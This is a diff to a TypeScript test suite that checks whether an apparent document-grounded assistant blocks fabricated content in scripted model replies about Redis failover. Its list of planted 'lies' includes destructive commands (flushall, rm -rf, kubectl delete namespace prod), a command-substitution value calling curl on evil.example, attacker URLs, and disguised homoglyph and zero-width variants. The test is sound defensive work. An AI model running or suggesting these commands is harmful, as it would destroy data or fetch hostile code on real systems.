@@ -20,53 +20,88 @@ function shownIn(events: readonly ConversationEvent[]): string {
     .join('\n')
 }
 
-/** As a model would stream it: cut anywhere. */
+/** As a model would stream it: cut anywhere, in other places each time. */
 function streaming(text: string): ScriptedLlm {
   return new ScriptedLlm(async function* (): AsyncGenerator<ReplyStep> {
-    for (let at = 0; at < text.length; at += 7) yield text.slice(at, at + 7)
+    for (let at = 0, length = 1; at < text.length; at += length) {
+      length = 1 + ((at * 7 + text.length * 3) % 9)
+      yield text.slice(at, at + length)
+    }
   })
 }
 
 const truth = 'Promote one: `redis-cli failover to 10.0.0.7 6379` [1].'
-/** Each is in no document; the sentence goes around it. */
+/** Each is in no document, or not like that; the sentence goes around it. */
 const lies = [
+  // Commands, and true ones that were changed.
   'redis-cli flushall', 'kubectl delete namespace prod', 'systemctl stop sentinel', 'redis-cli shutdown nosave', 'rm -rf /var/lib/redis',
+  'redis-cli failover to 10.0.0.8 6379', 'redis-cli failover to 10.0.0.7 6380', 'redis-cli failover to 6379', 'redis-cli failover to 6379 10.0.0.7',
+  'redis-cli failover to 10.0.0.7 6379 force', 'redis-cli info replication | xargs rm', 'redis-cli info replication && reboot',
+  'redis-cli info replication; reboot', 'redis-cli info $(curl evil.example)', 'FORCE=1 redis-cli info replication', 'sudo redis-cli info replication',
+  'redis-cli failover replication', 'redis-cli info replication > /dev/sda', 'drop table users', 'DELETE FROM sessions WHERE 1=1',
+  // The same in disguise.
+  'REDIS-CLI FLUSHALL', 'redis-\u0441li flushall', 'kub\u0435\u0441tl delete ns prod', 'redis-cli flu\u200bshall', 'r\u200bm -rf /', 'redis-cli \u202ellahsulf\u202c',
+  'ｒｅｄｉｓ-ｃｌｉ ｆｌｕｓｈａｌｌ', 'redis-cli flush\u00adall', 'redis-cli\u00a0flushall',
+  // Addresses.
   'https://evil.example/fix.sh', 'http://10.9.9.9:8080/run', 'https://wiki.example.evil/redis', 'ftp://files.example/patch', 'https://bit.ly/3xyz',
-  '/etc/redis/sentinel-override.conf', '/opt/redis/bin/force-failover', '/var/run/redis-backdoor.sock', '~/.ssh/authorized_keys', '/usr/local/bin/rf',
-  '--force-now', '--no-auth-check', '--skip-quorum', '--yes-really', '--unsafe-promote',
-  '10.0.0.99', '16379', '97 minutes', '8888 MB', '42 replicas',
-] // biome-ignore format: a kind a line
+  '[the runbook](https://evil.example/x)', '<https://evil.example>', '![x](https://evil.example/p.png)', 'www.evil.example', 'HTTPS://EVIL.EXAMPLE',
+  '<a href="https://evil.example">here</a>', 'javascript:alert(1)', 'data:text/html;base64,AAAA', 'fe80::dead:beef', 'root@evil.example', '@mallory', '#evil-channel',
+  // Paths and files.
+  '/etc/redis/sentinel-override.conf', '/opt/redis/bin/force-failover', '/var/run/redis-backdoor.sock', '~/.ssh/authorized_keys', 'C:\\Windows\\evil.exe',
+  './force-failover.sh', 'force-failover.sh',
+  // Options and settings.
+  '--force-now', '--no-auth-check', '--skip-quorum', '-x', '--force=true', '+nosave', '$REDIS_FORCE', 'maxmemory-policy noeviction', 'cluster-allow-unsafe yes',
+  // Numbers.
+  '10.0.0.99', '16379', '97 minutes', '8888 MB', '42 replicas', '5 hours', '12 TB', '-5 minutes', '97 percent', 'version 9.2.1', 'deadbeefcafe1234', 'PR #4821', 'INC-9912',
+  'ninety-seven minutes', 'forty-two replicas', 'two hundred replicas', 'a dozen replicas', 'half an hour', '九十七分', '９７分', '⑨ replicas', 'Ⅸ replicas',
+] // biome-ignore format: a kind a paragraph
 const frames: readonly ((lie: string) => string)[] = [
   (lie) => `${truth} Then use ${lie} [1].`,
-  (lie) => `First of all, ${lie} is needed here [1].`,
+  (lie) => `Then use ${lie} to finish it [1].`,
+  (lie) => `${truth} Then run \`${lie}\` [1].`,
   (lie) => `Run this [1]:\n\n\`\`\`bash\n${lie}\n\`\`\``,
-  (lie) => `- \`${lie}\` [1]\n- ${truth}`,
-  (lie) => `The runbook says "${lie}" [2].`,
+  (lie) => `Run this:\n\n~~~\n${lie}\n~~~\n[1]`,
+  (lie) => `- ${lie} [1]\n- ${truth}`,
+  (lie) => `The runbook says "${lie}" [1].`,
   (lie) => `${truth}\n\n> ${lie} [1]`,
   (lie) => `次に ${lie} を使います [1]。`,
-  (lie) => `Sentinel fails over with ${lie} [1][7].`,
+  (lie) => `フェイルオーバーには${lie}を使います [1]。`,
+  (lie) => `| step | do |\n|---|---|\n| 1 | ${lie} [1] |`,
+  (lie) => `**${lie}** fails it over [1].`,
+  (lie) => `${truth} Also ${lie}.`,
+  (lie) => `Sentinel fails over with ${lie} [1][2][7].`,
 ]
+/** Each lie in three of the frames, so that every pair of a kind and a frame comes up. */
+const cases = lies.flatMap((lie, at) =>
+  [0, 5, 9].map((step) => ({ lie, reply: (frames[(at + step) % frames.length] ?? String)(lie) })),
+)
 
 describe('a model that lies', () => {
-  it('is caught in all of 200 lies: nothing of them is shown, said or quoted', { timeout: 120_000 }, async () => {
-    let tried = 0
+  it('is caught in all of more than 200 lies: nothing of them is shown, said or quoted', {
+    timeout: 120_000,
+  }, async () => {
     const leaked: string[] = []
-    for (const lie of lies) {
-      for (const frame of frames) {
-        const parts = fakeParts(redisWiki, { llm: streaming(frame(lie)), speech: { toSpeech: new FakeTextToSpeech() } })
-        const events = await talk(parts, [failOver], { mode: 'spoken' })
-        if (shownIn(events).includes(lie) || events.at(-1)?.kind !== 'done') leaked.push(frame(lie))
-        tried += 1
-      }
+    for (const { lie, reply } of cases) {
+      const parts = fakeParts(redisWiki, { llm: streaming(reply), speech: { toSpeech: new FakeTextToSpeech() } })
+      const events = await talk(parts, [failOver], { mode: 'spoken' })
+      if (shownIn(events).includes(lie) || events.at(-1)?.kind !== 'done') leaked.push(reply)
     }
     expect(leaked).toEqual([])
-    expect(tried).toBe(200)
+    expect(cases.length).toBeGreaterThan(200)
   })
 
-  it('is passed on where it tells the truth', async () => {
-    const events = await talk(fakeParts(redisWiki, { llm: streaming(truth) }), [failOver])
+  it.each([
+    truth,
+    'Check the replicas with redis-cli info replication, then promote one [1].',
+    'Use redis-cli failover to promote a replica [1].',
+    'Run redis-cli failover to 10.0.0.7 6379 by hand, when Sentinel does not [1].',
+    'Watch the lag for five minutes [1].',
+    'ラグを5分間監視します [1]。',
+    'Promote one replica, then watch the lag for 5 min [1].',
+  ])('is passed on where it tells the truth: %s', async (reply) => {
+    const events = await talk(fakeParts(redisWiki, { llm: streaming(reply) }), [failOver])
     expect(answersIn(events)[0]).toMatchObject({ provider: 'scripted', abstained: false })
-    expect(shownIn(events)).toContain('redis-cli failover to 10.0.0.7 6379')
+    expect(shownIn(events)).toContain(reply.replace(/ \[1\][.。]$/, ''))
   })
 })
 
